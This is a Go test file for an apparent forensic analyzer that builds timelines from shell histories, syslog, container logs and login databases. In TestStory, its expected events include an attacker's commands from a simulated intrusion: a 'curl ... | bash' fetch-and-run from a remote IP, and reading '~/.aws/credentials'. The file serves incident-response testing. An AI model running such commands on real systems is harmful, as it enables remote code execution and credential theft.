package analyzer

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"lagan/evidence/memfs"
	"lagan/fixtures"
	"lagan/internal/needs"
	"lagan/runtimes"
	"lagan/timeline"
)

// event is one line of a timeline.
type event map[string]any

func (e event) text(key string) string {
	s, _ := e[key].(string)
	return s
}

// eventsOf returns the timeline but for files.
func eventsOf(t *testing.T, n *Node, o TimelineOptions) []event {
	t.Helper()
	return slices.DeleteFunc(allEvents(t, n, o), func(e event) bool { return e.text("data_type") == "fs:stat" })
}

// allEvents returns the timeline.
func allEvents(t *testing.T, n *Node, o TimelineOptions) (events []event) {
	t.Helper()
	var out bytes.Buffer
	w, err := timeline.NewWriter(timeline.Options{TempDir: t.TempDir()}, timeline.Output{W: &out, Format: timeline.JSONL})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := n.Timeline(t.Context(), o, w.Add); err != nil {
		t.Fatal(err)
	}
	if err := w.Finish(t.Context()); err != nil {
		t.Fatal(err)
	}
	for line := range bytes.Lines(out.Bytes()) {
		var e event
		if err := json.Unmarshal(line, &e); err != nil {
			t.Fatal(err)
		}
		events = append(events, e)
	}
	return events
}

// show lists events by the keys that matter.
func show(events []event, keys ...string) (out []string) {
	for _, e := range events {
		var f []string
		for _, k := range keys {
			f = append(f, e.text(k))
		}
		out = append(out, strings.Join(f, "|"))
	}
	return out
}

func zipped(t *testing.T, s string) string {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := io.WriteString(w, s); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func set(n *memfs.Node, at time.Time) {
	n.Info.Mtime = at
}

func TestNodeArtifacts(t *testing.T) {
	tree := memfs.New()
	written := time.Date(2026, 1, 3, 12, 0, 0, 0, time.UTC)
	berlin, err := os.ReadFile("/usr/share/zoneinfo/Europe/Berlin")
	if err != nil {
		t.Skip(err)
	}
	tree.File("/usr/share/zoneinfo/Europe/Berlin", string(berlin))
	tree.Symlink("/etc/localtime", "../usr/share/zoneinfo/Europe/Berlin")
	tree.File("/etc/passwd", "root:x:0:0::/root:/bin/sh\neve:x:1000:1000::/srv/eve/:/bin/bash\n")
	set(tree.File("/var/log/auth.log", "Dec 31 23:59:59 h sshd[1]: Invalid user a from 192.0.2.1 port 5\nJan  1 00:00:00 h sshd[1]: x\n"), written)
	set(tree.File("/var/log/auth.log.1.gz", zipped(t, "Jun  1 10:00:00 h su: old\n")), time.Date(2025, 6, 2, 0, 0, 0, 0, time.UTC))
	set(tree.File("/var/log/messages-20240110", "Jan  9 10:00:00 h a: b\n"), written) // copied long after it was rotated
	set(tree.File("/srv/eve/.bash_history", "id\nw\n"), written)
	tree.File("/root/.zsh_history", ": 1700000000:0;ls\n")
	tree.Symlink("/var/log/syslog", "auth.log") // told once, where it lies
	tree.Symlink("/home", "var/home")           // as Fedora CoreOS has it
	set(tree.File("/var/home/core/.bash_history", "ls\n"), written)
	got := show(eventsOf(t, nodeOf(t, Options{}, tree), TimelineOptions{}), "datetime", "data_type", "display_name", "username", "message")
	want := []string{
		"2023-11-14T22:13:20.000000+00:00|shell:zsh:history|NODE:/root/.zsh_history|root|ls",
		"2024-01-09T09:00:00.000000+00:00|syslog:line|NODE:/var/log/messages-20240110||[a]: b",
		"2025-06-01T08:00:00.000000+00:00|syslog:line|NODE:/var/log/auth.log.1.gz||[su]: old",
		"2025-12-31T22:59:59.000000+00:00|syslog:ssh:failed_connection|NODE:/var/log/auth.log|a|[sshd] [1]: Invalid user a from 192.0.2.1 port 5",
		"2025-12-31T23:00:00.000000+00:00|syslog:line|NODE:/var/log/auth.log||[sshd] [1]: x",
		"2026-01-03T12:00:00.000000+00:00|bash:history:entry|NODE:/home/core/.bash_history|core|ls",
		"2026-01-03T12:00:00.000000+00:00|bash:history:entry|NODE:/srv/eve/.bash_history|eve|id",
		"2026-01-03T12:00:00.000000+00:00|bash:history:entry|NODE:/srv/eve/.bash_history|eve|w",
	}
	if !slices.Equal(got, want) {
		t.Errorf("\n got %s\nwant %s", strings.Join(got, "\n     "), strings.Join(want, "\n     "))
	}
}

func TestZones(t *testing.T) {
	berlin, err := os.ReadFile("/usr/share/zoneinfo/Europe/Berlin")
	if err != nil {
		t.Skip(err)
	}
	for _, test := range []struct {
		name string
		make func(*memfs.FS)
		hour int // of 12:00 UTC in January
		says string
	}{
		{"none", func(*memfs.FS) {}, 12, "taken as UTC: the node names no zone"},
		{"a copy", func(f *memfs.FS) { f.File("/etc/localtime", string(berlin)) }, 13, "zone of /etc/localtime, the node's"},
		{"named by Debian", func(f *memfs.FS) {
			f.File("/etc/timezone", "Europe/Berlin\n")
			f.File("/usr/share/zoneinfo/Europe/Berlin", string(berlin))
		}, 13, "zone Europe/Berlin, the node's"},
		{"not on the disk", func(f *memfs.FS) { f.Symlink("/etc/localtime", "/usr/share/zoneinfo/Europe/Berlin") }, 12,
			"taken as UTC: the node's zone, Europe/Berlin, can't be read"},
		{"UTC, not on the disk", func(f *memfs.FS) { f.Symlink("/etc/localtime", "/usr/share/zoneinfo/Etc/UTC") }, 12, "zone Etc/UTC, the node's"},
		{"garbage", func(f *memfs.FS) { f.File("/etc/localtime", "x") }, 12, "taken as UTC: the node's zone, of /etc/localtime, can't be read"},
	} {
		tree := memfs.New()
		test.make(tree)
		z := zoneOf(tree, false)
		if hour := time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC).In(z.location).Hour(); hour != test.hour || z.says != test.says {
			t.Errorf("%s: %d, %q", test.name, hour, z.says)
		}
	}
}

// logNode makes a Node with one container whose log has the given files.
func logNode(t *testing.T, runtime runtimes.Name, logPath string, files map[string]string) (*Node, *Container) {
	t.Helper()
	tree := memfs.New()
	tree.Dir("/etc")
	for name, content := range files {
		tree.File(name, content)
	}
	n := nodeOf(t, Options{}, tree)
	c := &Container{store: Store{Tree: n.Tree}}
	c.ID, c.Name, c.Runtime, c.StorePath, c.LogPath = "c1", "web", runtime, "/var/lib/docker", logPath
	n.containers = func() []*Container { return []*Container{c} }
	return n, c
}

func TestLogs(t *testing.T) {
	line := func(sec int, text string) string { return fmt.Sprintf("2026-01-02T03:04:%02dZ stdout %s\n", sec, text) }
	object := func(sec int, text string) string {
		return fmt.Sprintf(`{"log":%q,"stream":"stderr","time":"2026-01-02T03:04:%02dZ"}`+"\n", text, sec)
	}
	const (
		pod    = "/var/log/pods/ns_pod_uid/web/0.log"
		docker = "/var/lib/docker/containers/c1/c1-json.log"
	)
	for _, test := range []struct {
		name    string
		runtime runtimes.Name
		logPath string
		files   map[string]string
		want    string
	}{
		{"the kubelet's rotation", runtimes.Containerd, pod, map[string]string{
			pod: line(5, "F e"), pod + ".20260102-030404": line(4, "F d"), pod + ".20260102-030402.gz": zipped(t, line(1, "F a")+line(2, "P b")),
			pod + ".20260102-030403.gz": zipped(t, line(3, "F c")), "/var/log/pods/ns_pod_uid/web/1.log": line(9, "F other"), pod + ".d/x": "y",
		}, "a bc d e"},
		{"packing was interrupted", runtimes.Containerd, pod, map[string]string{
			pod: line(2, "F b"), pod + ".20260102-030401": line(1, "F a"), pod + ".20260102-030401.gz": zipped(t, line(1, "F a")), pod + ".20260102-030401.tmp": "\x1f\x8b",
		}, "a b"},
		{"Docker's rotation", runtimes.Docker, docker, map[string]string{
			docker: object(4, "d\n"), docker + ".1": object(3, "c\n"), docker + ".2.gz": zipped(t, object(2, "b\n")), docker + ".10.gz": zipped(t, object(1, "a\n")),
		}, "a b c d"},
		{"the end of what is packed is lost", runtimes.Docker, docker, map[string]string{
			docker: object(4, "d\n"), docker + ".1.gz": zipped(t, object(1, "a\n"))[:70],
		}, "d"},
	} {
		n, c := logNode(t, test.runtime, test.logPath, test.files)
		var got []string
		if err := n.Logs(t.Context(), c, func(e *LogEntry) error { got = append(got, string(e.Text)); return nil }); err != nil {
			t.Errorf("%s: %v", test.name, err)
		}
		if s := strings.Join(got, " "); s != test.want {
			t.Errorf("%s: %q, not %q; %v", test.name, s, test.want, n.Gaps())
		}
	}
	n, c := logNode(t, runtimes.Docker, docker, nil)
	if err := n.Logs(t.Context(), c, nil); !errors.Is(err, ErrNoLogs) {
		t.Error(err)
	}
	n, c = logNode(t, runtimes.Docker, docker, map[string]string{docker: object(1, "a\n") + object(2, "b\n")})
	stop := errors.New("stop")
	if err := n.Logs(t.Context(), c, func(*LogEntry) error { return stop }); err != stop {
		t.Error(err)
	}
}

// TestLogsOfTheGone has the log of a container that no runtime knows.
func TestLogsOfTheGone(t *testing.T) {
	const base = "/var/log/pods/ns_pod-1_0123-uid/web/2.log"
	id := strings.Repeat("ab", 32)
	n, _ := logNode(t, runtimes.Containerd, "", map[string]string{base: "2026-01-02T03:04:05Z stdout F a\n"})
	n.Tree.(*memfs.FS).Symlink("/var/log/containers/pod-1_ns_web-"+id+".log", base)
	got := show(eventsOf(t, n, TimelineOptions{Scope: ScopeContainers}), "data_type", "message", "container_id", "container_name", "kubernetes_namespace",
		"kubernetes_pod_name", "kubernetes_pod_uid", "stream", "body")
	want := "cri:container:log:entry|[web] a|" + id + "|web|ns|pod-1|0123-uid|stdout|a"
	if !slices.Contains(got, want) {
		t.Errorf("%q, not %q", got, want)
	}
}

// TestStory looks for the steps of the fixture's story in the timeline of its node.
func TestStory(t *testing.T) {
	n, err := Open(t.Context(), fixtures.Disk(t, "eks-xfs"), Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer n.Close()
	events := eventsOf(t, n, TimelineOptions{})
	got := show(events, "data_type", "username", "ip_address", "port", "authentication_method", "authentication_result", "fingerprint", "command")
	for _, want := range []string{
		"syslog:ssh:failed_connection|admin|203.0.113.77|51022||failure||",
		"syslog:ssh:failed_connection|admin|203.0.113.77|51022|password|failure||",
		"syslog:ssh:failed_connection|ec2-user|203.0.113.77|51100|password|failure||",
		"syslog:ssh:login|ec2-user|203.0.113.77|51188|publickey|success|SHA256:1dV0Jr8N2F0kq0m8e1xkq6Jv4nYp1|",
		"syslog:line|ec2-user|||sudo|success||/usr/bin/crictl ps -a",
		"syslog:line|ec2-user|||sudo|success||/usr/bin/bash -c curl http://203.0.113.77/x.sh | bash",
		"linux:utmp:event|ec2-user|203.0.113.77|||||",
		"bash:history:entry|ec2-user||||||cat ~/.aws/credentials",
		"bash:history:entry|root||||||id; uname -a; curl http://203.0.113.77/x.sh",
	} {
		if !slices.Contains(got, want) {
			t.Errorf("no event %q", want)
		}
	}
	i := slices.IndexFunc(events, func(e event) bool { return e.text("data_type") == "bash:history:entry" && e.text("username") == "root" })
	if i < 0 || events[i].text("container_name") != "nginx" || events[i].text("kubernetes_pod_name") != "web-7c5ddbdf54-x2k9q" {
		t.Error("the history of the container's root doesn't say whose it is")
	}
}

func TestLoginDatabases(t *testing.T) {
	tool := needs.Tool(t, "sqlite3")
	make := func(sql string) string {
		path := filepath.Join(t.TempDir(), "db")
		if out, err := exec.Command(tool, path, sql).CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	tree := memfs.New()
	tree.Dir("/etc")
	tree.File("/var/lib/wtmpdb/wtmp.db", make(`CREATE TABLE wtmp(ID INTEGER PRIMARY KEY, Type INTEGER, User TEXT NOT NULL, Login INTEGER, Logout INTEGER, TTY TEXT, RemoteHost TEXT, Service TEXT) STRICT;
INSERT INTO wtmp (Type,User,Login,Logout,TTY,RemoteHost,Service) VALUES (1,'reboot',1700000000000000,NULL,'~','6.1',NULL),(3,'eve',1700000001500000,1700000002000000,'pts/0','192.0.2.1','sshd');`))
	tree.File("/var/lib/lastlog/lastlog2.db", make(`CREATE TABLE Lastlog2(Name TEXT PRIMARY KEY, Time INTEGER, TTY TEXT, RemoteHost TEXT, Service TEXT);
INSERT INTO Lastlog2 VALUES ('eve',1700000001,'pts/0','192.0.2.1','sshd');`))
	n := nodeOf(t, Options{}, tree)
	got := show(eventsOf(t, n, TimelineOptions{}), "datetime", "timestamp_desc", "login_type", "username", "terminal", "ip_address", "reporter")
	want := []string{
		"2023-11-14T22:13:20.000000+00:00|Start Time|BOOT_TIME|reboot|~||",
		"2023-11-14T22:13:21.000000+00:00|Last Login Time|LASTLOG|eve|pts/0|192.0.2.1|sshd",
		"2023-11-14T22:13:21.500000+00:00|Start Time|USER_PROCESS|eve|pts/0|192.0.2.1|sshd",
		"2023-11-14T22:13:22.000000+00:00|End Time|USER_PROCESS|eve|pts/0|192.0.2.1|sshd",
	}
	if !slices.Equal(got, want) {
		t.Errorf("\n got %q\nwant %q\n%v", got, want, n.Gaps())
	}
}
